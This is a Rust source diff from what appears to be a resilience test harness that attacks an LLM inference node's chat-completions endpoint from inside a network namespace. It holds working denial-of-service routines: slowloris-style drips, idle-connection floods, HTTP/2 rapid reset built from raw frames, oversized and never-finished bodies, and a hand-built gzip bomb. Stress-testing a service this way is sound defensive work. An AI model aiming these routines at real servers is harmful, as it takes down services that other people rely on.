@@ -1,0 +1,347 @@
+//! Clients that want to use up the node. They run on a thread of their own, so that what they do
+//! costs the honest ones nothing here.
+
+use std::fs::File;
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::thread::JoinHandle;
+use std::time::Duration;
+
+use anyhow::Context as _;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::task::JoinSet;
+use tokio::time::{sleep, timeout};
+
+use crate::wan::enter;
+
+/// Attackers come from an address of their own.
+const SOURCE: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));
+/// Pause after a connection that was refused or closed.
+const PAUSE: Duration = Duration::from_millis(50);
+
+/// What attackers do.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Attack {
+    /// Heads that come byte by byte.
+    SlowHeads,
+    /// Bodies that do.
+    SlowBodies,
+    /// Long streams that nobody reads.
+    SlowReaders,
+    /// Connections on which nothing is said.
+    Idle,
+    /// HTTP/2 streams that are reset as soon as they are opened.
+    Resets,
+    /// Bodies that say that they have 1 GB.
+    Announced,
+    /// Bodies just below the limit, whose length is not said.
+    Large,
+    /// Bodies that are a thousand times as long when they are unpacked.
+    Bombs,
+}
+
+/// Attackers at work, until it is dropped.
+pub(crate) struct Attackers {
+    is_over: Arc<AtomicBool>,
+    opened: Arc<AtomicU64>,
+    thread: Option<JoinHandle<()>>,
+}
+
+#[derive(Clone)]
+struct Attacker {
+    attack: Attack,
+    target: SocketAddr,
+    opened: Arc<AtomicU64>,
+}
+
+impl Attack {
+    pub(crate) const ALL: [Self; 8] = [
+        Self::SlowHeads,
+        Self::SlowBodies,
+        Self::SlowReaders,
+        Self::Idle,
+        Self::Resets,
+        Self::Announced,
+        Self::Large,
+        Self::Bombs,
+    ];
+
+    pub(crate) fn name(self) -> &'static str {
+        match self {
+            Self::SlowHeads => "1,000 slow heads",
+            Self::SlowBodies => "1,000 slow bodies",
+            Self::SlowReaders => "200 streams that nobody reads",
+            Self::Idle => "10,000 idle connections",
+            Self::Resets => "HTTP/2 rapid reset on 4 connections",
+            Self::Announced => "8 bodies of 1 GB at a time",
+            Self::Large => "24 bodies of 30 MB at a time",
+            Self::Bombs => "16 compressed bodies, 80 MB each unpacked",
+        }
+    }
+
+    fn connections(self) -> usize {
+        match self {
+            Self::SlowHeads | Self::SlowBodies => 1_000,
+            Self::SlowReaders => 200,
+            Self::Idle => 10_000,
+            Self::Resets => 4,
+            Self::Announced => 8,
+            Self::Large => 24,
+            Self::Bombs => 16,
+        }
+    }
+}
+
+impl Attackers {
+    /// Lets them loose on `target`, in the namespace that the file at `namespace` is.
+    pub(crate) fn start(
+        namespace: &str,
+        target: SocketAddr,
+        attack: Attack,
+    ) -> anyhow::Result<Self> {
+        let inside = File::open(namespace).context("a namespace")?;
+        let (is_over, opened) = (Arc::<AtomicBool>::default(), Arc::<AtomicU64>::default());
+        let (over, attacker) =
+            (Arc::clone(&is_over), Attacker { attack, target, opened: Arc::clone(&opened) });
+        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
+        let thread = std::thread::Builder::new().name("attackers".to_owned()).spawn(move || {
+            if enter(&inside).is_ok() {
+                runtime.block_on(attacker.all(&over));
+            }
+        })?;
+        Ok(Self { is_over, opened, thread: Some(thread) })
+    }
+
+    /// Connections that they have opened so far.
+    pub(crate) fn opened(&self) -> u64 {
+        self.opened.load(Ordering::Relaxed)
+    }
+}
+
+impl Drop for Attackers {
+    fn drop(&mut self) {
+        self.is_over.store(true, Ordering::Relaxed);
+        if let Some(thread) = self.thread.take() {
+            // A panic of theirs shows as an attack that opened nothing.
+            drop(thread.join());
+        }
+    }
+}
+
+impl Attacker {
+    async fn all(self, over: &AtomicBool) {
+        let mut all = JoinSet::new();
+        for number in 0..self.attack.connections() {
+            let attacker = self.clone();
+            all.spawn(async move {
+                // wait: they come one after the other, all within two seconds
+                sleep(Duration::from_micros(number as u64 * 200)).await;
+                loop {
+                    // Its error is that the node has closed the connection, which is its right.
+                    drop(attacker.once().await);
+                    // wait: it comes again
+                    sleep(PAUSE).await;
+                }
+            });
+        }
+        while !over.load(Ordering::Relaxed) {
+            // wait: until the next look
+            sleep(PAUSE).await;
+        }
+    }
+
+    async fn connect(&self, is_narrow: bool) -> std::io::Result<TcpStream> {
+        let socket = TcpSocket::new_v4()?;
+        if is_narrow {
+            // The kernel makes the smallest of it that it allows.
+            socket.set_recv_buffer_size(1)?;
+        }
+        socket.bind(SocketAddr::new(SOURCE, 0))?;
+        let stream = socket.connect(self.target).await?;
+        self.opened.fetch_add(1, Ordering::Relaxed);
+        Ok(stream)
+    }
+
+    async fn once(&self) -> std::io::Result<()> {
+        let mut stream = self.connect(self.attack == Attack::SlowReaders).await?;
+        match self.attack {
+            Attack::SlowHeads => {
+                drip(&mut stream, b"POST /v1/chat/completions HTTP/1.1\r\nx-a: ").await
+            }
+            Attack::SlowBodies => {
+                stream.write_all(head("content-length: 1000000").as_bytes()).await?;
+                drip(
+                    &mut stream,
+                    b"{\"model\":\"tiny\",\"messages\":[{\"role\":\"user\",\"content\":\"",
+                )
+                .await
+            }
+            Attack::SlowReaders => {
+                let body = "{\"model\":\"tiny\",\"stream\":true,\"max_tokens\":4000,\"ignore_eos\":true,\
+                            \"messages\":[{\"role\":\"user\",\"content\":\"Go on.\"}]}";
+                let length = format!("content-length: {}", body.len());
+                stream.write_all(format!("{}{body}", head(&length)).as_bytes()).await?;
+                // wait: it reads nothing, for longer than any trial
+                sleep(Duration::from_secs(3600)).await;
+                Ok(())
+            }
+            Attack::Idle => closed(&mut stream).await,
+            Attack::Resets => resets(&mut stream).await,
+            Attack::Announced => {
+                stream.write_all(head("content-length: 1000000000").as_bytes()).await?;
+                send(&mut stream, 1_000_000_000, false).await
+            }
+            Attack::Large => {
+                stream.write_all(head("transfer-encoding: chunked").as_bytes()).await?;
+                send(&mut stream, 30 << 20, true).await?;
+                closed(&mut stream).await
+            }
+            Attack::Bombs => {
+                let bomb = bomb(512 << 10);
+                let headers = format!("content-encoding: gzip\r\ncontent-length: {}", bomb.len());
+                stream.write_all(head(&headers).as_bytes()).await?;
+                stream.write_all(&bomb).await?;
+                answered(&mut stream).await
+            }
+        }
+    }
+}
+
+fn head(headers: &str) -> String {
+    format!(
+        "POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n{headers}\r\n\r\n"
+    )
+}
+
+/// Sends `start`, then a byte each 200 ms.
+async fn drip(stream: &mut TcpStream, start: &[u8]) -> std::io::Result<()> {
+    stream.write_all(start).await?;
+    loop {
+        // wait: that is what it does
+        sleep(Duration::from_millis(200)).await;
+        stream.write_all(b"a").await?;
+        let mut byte = [0; 1];
+        if let Ok(0) = stream.try_read(&mut byte) {
+            return Ok(());
+        }
+    }
+}
+
+/// Waits for the end of the connection.
+async fn closed(stream: &mut TcpStream) -> std::io::Result<()> {
+    let mut bytes = vec![0; 4096];
+    while stream.read(&mut bytes).await? > 0 {}
+    Ok(())
+}
+
+/// Waits for the first bytes of an answer.
+async fn answered(stream: &mut TcpStream) -> std::io::Result<()> {
+    let mut bytes = vec![0; 4096];
+    // An answer that does not come is none of its business.
+    drop(timeout(Duration::from_secs(5), stream.read(&mut bytes)).await);
+    Ok(())
+}
+
+/// Sends so many bytes as fast as they are taken.
+async fn send(stream: &mut TcpStream, bytes: usize, is_chunked: bool) -> std::io::Result<()> {
+    const PIECE: usize = 64 << 10;
+    let piece = vec![b' '; PIECE];
+    for _ in 0..bytes / PIECE {
+        if is_chunked {
+            stream.write_all(format!("{PIECE:x}\r\n").as_bytes()).await?;
+        }
+        stream.write_all(&piece).await?;
+        if is_chunked {
+            stream.write_all(b"\r\n").await?;
+        }
+    }
+    // The last chunk never comes: what was sent is held until the time for bodies is over.
+    Ok(())
+}
+
+/// Opens streams and resets them until the connection is closed.
+async fn resets(stream: &mut TcpStream) -> std::io::Result<()> {
+    const BATCH: u32 = 50;
+    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
+    stream.write_all(&frame(0x4, 0, 0, &[])).await?;
+    // Fields by the static table, none of which changes the state of the coder: POST, http, path, host.
+    let path = b"/v1/chat/completions";
+    let mut block = vec![0x83, 0x86, 0x04, u8::try_from(path.len()).unwrap_or(0)];
+    block.extend_from_slice(path);
+    block.extend_from_slice(&[0x01, 1, b'a']);
+    let mut id = 1_u32;
+    loop {
+        let mut batch = Vec::new();
+        for _ in 0..BATCH {
+            // The end of the headers, not of the stream: a body is still to come.
+            batch.extend_from_slice(&frame(0x1, 0x4, id, &block));
+            batch.extend_from_slice(&frame(0x3, 0, id, &8_u32.to_be_bytes()));
+            id += 2;
+        }
+        stream.write_all(&batch).await?;
+        let mut bytes = vec![0; 16 << 10];
+        if let Ok(0) = stream.try_read(&mut bytes) {
+            return Ok(());
+        }
+        // wait: 5,000 streams a second on each connection are enough
+        sleep(Duration::from_millis(10)).await;
+    }
+}
+
+/// An HTTP/2 frame.
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
+    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
+    bytes.extend_from_slice(&stream.to_be_bytes());
+    bytes.extend_from_slice(payload);
+    bytes
+}
+
+/// A gzip member of about so many bytes that stands for zeros: one block with the fixed codes, one zero
+/// and then nothing but "the last byte, 258 times more". Its checksum is wrong, which is found too late.
+fn bomb(bytes: usize) -> Vec<u8> {
+    let mut packed = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
+    let (mut held, mut count) = (0_u64, 0);
+    let mut put = |packed: &mut Vec<u8>, bits: u64, width: u32| {
+        held |= bits << count;
+        count += width;
+        while count >= 8 {
+            packed.push((held & 0xff) as u8);
+            held >>= 8;
+            count -= 8;
+        }
+    };
+    // The last block, with fixed codes; then a zero: codes stand with their first bit first.
+    put(&mut packed, 0b011, 3);
+    put(&mut packed, u64::from(0b0011_0000_u8.reverse_bits()), 8);
+    while packed.len() < bytes {
+        // Length 258 is the symbol 285, of the codes from 11000000 for 280 on; distance 1 is 00000.
+        put(&mut packed, u64::from(0b1100_0101_u8.reverse_bits()), 8);
+        put(&mut packed, 0, 5);
+    }
+    // The end of the block, the last bits, and a checksum and length that are wrong.
+    put(&mut packed, 0, 7 + 7);
+    packed.extend_from_slice(&[0; 8]);
+    packed
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_frame_has_its_length_kind_and_stream() {
+        assert_eq!(frame(0x3, 1, 5, &[9, 9]), [0, 0, 2, 3, 1, 0, 0, 0, 5, 9, 9]);
+    }
+
+    #[test]
+    fn a_bomb_is_a_gzip_member_that_grows_a_hundredfold() {
+        let bomb = bomb(1_000);
+        assert!(bomb.starts_with(&[0x1f, 0x8b, 8]) && (1_000..1_020).contains(&bomb.len()));
+        // 13 bits for each 258 bytes.
+        let matches = (bomb.len() - 20) * 8 / 13;
+        assert!(matches * 258 > 150 * bomb.len());
+    }
+}
